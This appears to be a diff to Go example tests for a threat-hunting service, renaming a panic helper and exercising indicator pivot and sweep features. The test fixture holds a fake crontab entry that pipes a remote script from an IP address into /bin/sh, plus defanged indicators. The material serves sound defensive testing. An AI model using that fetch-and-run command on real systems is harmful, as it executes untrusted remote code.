@@ -16,28 +16,22 @@ import (
 // infected returns a Service over one tenant with two rows of one host.
 func infected(ctx context.Context) (*hunt.Service, tenancy.ID) {
 	stores, tenant := memory.New(), tenancy.New()
-	fine(stores.Tenants.CreateTenant(ctx, tenancy.Tenant{ID: tenant, Name: "Acme"}))
+	must(stores.Tenants.CreateTenant(ctx, tenancy.Tenant{ID: tenant, Name: "Acme"}))
 	in, err := ingest.New(stores.Collections, stores.Hosts, ingest.Config{})
-	fine(err)
+	must(err)
 	_, err = in.Ingest(ctx, tenant, &velociraptor.Table{Artifact: "Linux.Sys.Crontab/CronTabs", ClientID: "C.1", Body: strings.NewReader(
 		`{"Command":"curl -s http://203.0.113.66/p.sh | /bin/sh"}` + "\n" + `{"Command":"logrotate"}`)})
-	fine(err)
+	must(err)
 	service, err := hunt.New(stores.Collections, stores.Hosts, stores.Hunts, hunt.Config{})
-	fine(err)
+	must(err)
 	return service, tenant
-}
-
-func fine(err error) {
-	if err != nil {
-		panic(err)
-	}
 }
 
 func ExampleService_Pivot() {
 	ctx := context.Background()
 	service, tenant := infected(ctx)
 	found, err := service.Pivot(ctx, hunt.Pivot{Scope: hunt.Scope{Tenants: []tenancy.ID{tenant}}, Value: "203[.]0[.]113[.]66"})
-	fine(err)
+	must(err)
 	for _, h := range found.Hosts {
 		for _, a := range h.Artifacts {
 			fmt.Println(found.Kind, found.Value, h.Host.ClientID, a.Artifact, a.Rows)
@@ -50,9 +44,9 @@ func ExampleService_Sweep() {
 	ctx := context.Background()
 	service, tenant := infected(ctx)
 	list, err := indicator.Read(strings.NewReader("# beacon\nhxxp://203.0.113.66/p.sh\nevil[.]example\nno indicator\n"))
-	fine(err)
+	must(err)
 	found, err := service.Sweep(ctx, hunt.Sweep{Scope: hunt.Scope{Tenants: []tenancy.ID{tenant}}, List: list})
-	fine(err)
+	must(err)
 	for _, h := range found.Hits {
 		fmt.Println(h.Indicator, h.Kind, h.Host.ClientID, h.Artifact, h.Rows)
 	}
